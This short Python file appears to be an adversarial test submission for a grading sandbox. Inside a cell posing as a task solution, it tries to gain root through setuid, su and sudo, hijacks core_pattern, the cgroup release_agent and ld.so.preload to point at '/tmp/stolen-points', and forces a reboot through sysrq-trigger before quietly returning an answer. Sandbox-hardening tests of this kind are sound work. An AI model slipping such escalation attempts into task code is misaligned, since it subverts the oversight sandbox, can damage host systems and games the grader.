"""Asks to be root: by setuid, by setuid programs, by the kernel's core pattern and cgroup release agents."""

# %% lif_threshold_solution
import os
import subprocess

for attempt in (
    lambda: os.setuid(0),
    lambda: os.setresuid(0, 0, 0),
    lambda: subprocess.run(["su", "-c", "id"], timeout=5, stdin=subprocess.DEVNULL),
    lambda: subprocess.run(["sudo", "-n", "id"], timeout=5),
    lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/stolen-points"),
    lambda: open("/sys/fs/cgroup/release_agent", "w").write("/tmp/stolen-points"),
    lambda: open("/proc/sysrq-trigger", "w").write("b"),
    lambda: open("/etc/ld.so.preload", "w").write("/tmp/stolen-points.so"),
    lambda: os.chroot("/tmp"),
):
    try:
        attempt()
    except (OSError, subprocess.SubprocessError):
        continue
I_min = 0.123
